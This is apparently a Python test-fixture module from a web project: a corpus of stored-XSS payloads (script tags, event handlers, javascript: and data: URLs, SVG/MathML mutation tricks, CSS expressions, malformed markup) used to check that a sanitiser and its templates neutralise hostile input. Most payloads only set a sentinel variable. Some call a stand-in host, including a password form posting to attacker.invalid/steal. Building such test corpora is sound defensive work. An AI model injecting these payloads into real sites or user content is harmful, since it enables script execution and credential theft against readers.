"""Stored-XSS corpus: hostile rich text an attacker (or a careless paste) could
put into a post body or a talk abstract, as listed in issue #8.

Every payload that would run script in a browser either sets the sentinel
`window.__xss` (in a frame: `parent.__xss`) or opens a dialog (alert, confirm,
prompt, print), so a browser test can tell that nothing ran by checking for both.
Payloads that would not run script but would still hurt readers (a form posting
elsewhere, a <base> or <meta refresh> hijacking links, a style sheet) are here
too: the sanitiser must drop them as well.

PAYLOADS is for rich-text fields; TEXT_PAYLOADS for plain-text fields (titles,
excerpts, tag names, event names), which templates must escape, including inside
JSON-LD, attributes and <title>.
"""

SENTINEL = "__xss"

_SCRIPT_TAGS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<script type='text/javascript'>window.__xss=1</script>",
    "<script type=module>window.__xss=1</script>",
    '<script src="data:text/javascript,window.__xss=1"></script>',
    '<script/src="data:,window.__xss=1"></script>',
    "<script\x0c>window.__xss=1</script>",
    "<script\n>window.__xss=1</script\n>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<<script>script>window.__xss=1<</script>/script>",
    "<script>alert(1)</script>",
    "<script>confirm(1)</script>",
    "<script>prompt(1)</script>",
    '<svg><script href="data:,window.__xss=1"></script></svg>',
    "<svg><script>window.__xss=1</script></svg>",
]

_EVENT_HANDLERS = [
    "<img src=x onerror=window.__xss=1>",
    '<IMG SRC="x" ONERROR="window.__xss=1">',
    '<img src="x" onerror="&#119;indow.__xss=1">',
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img src="x" alt="" onload="window.__xss=1" onmouseover="window.__xss=1">',
    "<body onload=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    "<svg/onload=window.__xss=1>",
    '<div onmouseover="window.__xss=1">hover me</div>',
    '<p onclick="window.__xss=1">click me</p>',
    "<input autofocus onfocus=window.__xss=1>",
    "<select autofocus onfocus=window.__xss=1></select>",
    '<a href="#top" tabindex="1" autofocus onfocus="window.__xss=1">focus</a>',
    "<details open ontoggle=window.__xss=1><summary>x</summary></details>",
    '<video><source onerror="window.__xss=1"></video>',
    "<audio src=x onerror=window.__xss=1></audio>",
    "<iframe onload=window.__xss=1></iframe>",
    "<marquee onstart=window.__xss=1>moving</marquee>",
    "<object data=x onerror=window.__xss=1></object>",
    '<table background="x" onerror="window.__xss=1"><tr><td>cell</td></tr></table>',
    '<h2 onanimationstart="window.__xss=1" style="animation:spin 1s">heading</h2>',
]

_URL_SCHEMES = [
    '<a href="javascript:window.__xss=1">link</a>',
    '<a href="JaVaScRiPt:window.__xss=1">link</a>',
    '<a href=" javascript:window.__xss=1">link</a>',
    '<a href="java&#x09;script:window.__xss=1">link</a>',
    '<a href="java&#10;script:window.__xss=1">link</a>',
    '<a href="jav\tascript:window.__xss=1">link</a>',
    '<a href="\x01javascript:window.__xss=1">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
    'window.__xss=1">link</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;'
    'window.__xss=1">link</a>',
    '<a href="javascript&colon;window.__xss=1">link</a>',
    '<a href="javascript:alert(1)">link</a>',
    '<img src="javascript:window.__xss=1" alt="x">',
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<object data="data:text/html,<script>parent.__xss=1</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=parent.__xss=1>">',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="VBScript:MsgBox(1)">vb</a>',
    '<img src="vbscript:msgbox(1)" alt="x">',
    '<blockquote cite="javascript:window.__xss=1">quote</blockquote>',
]

_SVG_MATHML = [
    '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">svg</text>'
    "</a></svg>",
    '<svg><a href="javascript:window.__xss=1"><text x="20" y="20">svg</text></a></svg>',
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s></svg>",
    '<svg><set attributeName="onmouseover" to="window.__xss=1"/></svg>',
    "<svg><foreignObject><img src=x onerror=window.__xss=1></foreignObject></svg>",
    "<svg><style><img src=x onerror=window.__xss=1></style></svg>",
    '<math><mi xlink:href="javascript:window.__xss=1">x</mi></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss=1">'
    "x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>"
    "</style></mglyph></table></mtext></math>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img src=x onerror=window.__xss=1>">',
]

_DOCUMENT_HIJACK = [
    '<base href="javascript:window.__xss=1//">',
    '<base href="https://attacker.invalid/">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
    '<meta http-equiv="Content-Security-Policy" '
    "content=\"script-src 'unsafe-inline'\">",
    '<meta http-equiv="set-cookie" content="sessionid=stolen">',
    '<form action="https://attacker.invalid/steal" method="post">'
    '<input name="password" type="password"><input type="submit"></form>',
    '<form action="javascript:window.__xss=1"><button>go</button></form>',
    '<button form="f" formaction="javascript:window.__xss=1">go</button>',
    '<link rel="stylesheet" href="https://attacker.invalid/x.css">',
    '<link rel="import" href="data:text/html,<script>parent.__xss=1</script>">',
]

_CSS = [
    '<div style="width: expression(window.__xss=1)">css expression</div>',
    '<p style="x:expr/**/ession(window.__xss=1)">css expression</p>',
    '<div style="background:url(javascript:window.__xss=1)">css url</div>',
    "<div style=\"background-image:url('javascript:window.__xss=1')\">css url</div>",
    '<div style="behavior: url(x.htc)">css behavior</div>',
    "<style>@import 'javascript:window.__xss=1';</style>",
    '<style>body{background:url("javascript:window.__xss=1")}</style>',
    "<style>*{display:none}</style>",
]

_BROKEN_MARKUP = [
    "<p><b><i>unclosed <img src=x onerror=window.__xss=1",
    '<a href="https://example.org/"<img src=x onerror=window.__xss=1>',
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=window.__xss=1>",
    "</p></div></article></main><script>window.__xss=1</script>",
    '<!--<img src="--><img src=x onerror=window.__xss=1//">',
    "<!-- --!><img src=x onerror=window.__xss=1> -->",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "<svg><![CDATA[><img src=x onerror=window.__xss=1>]]></svg>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
    "<title><img src=x onerror=window.__xss=1></title>",
    "<textarea><img src=x onerror=window.__xss=1></textarea>",
    "<template><img src=x onerror=window.__xss=1></template>",
    "<xmp><img src=x onerror=window.__xss=1></xmp>",
    "<table><td><img src=x onerror=window.__xss=1></table>",
    "<listing><img src=x onerror=window.__xss=1></listing>",
    '<a href="https://example.org/" title="&quot;&gt;&lt;script&gt;window.__xss=1'
    '&lt;/script&gt;">encoded in an attribute</a>',
    "<p>&lt;script&gt;window.__xss=1&lt;/script&gt;</p>",
]

PAYLOADS = (
    _SCRIPT_TAGS
    + _EVENT_HANDLERS
    + _URL_SCHEMES
    + _SVG_MATHML
    + _DOCUMENT_HIJACK
    + _CSS
    + _BROKEN_MARKUP
)

TEXT_PAYLOADS = [
    "</title><script>window.__xss=1</script>",
    '"><img src=x onerror=window.__xss=1>',
    "'><svg onload=window.__xss=1>",
    "</script><script>window.__xss=1</script>",
    "<!--</script><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{ 7|add:7 }} {% now 'Y' %}",
]
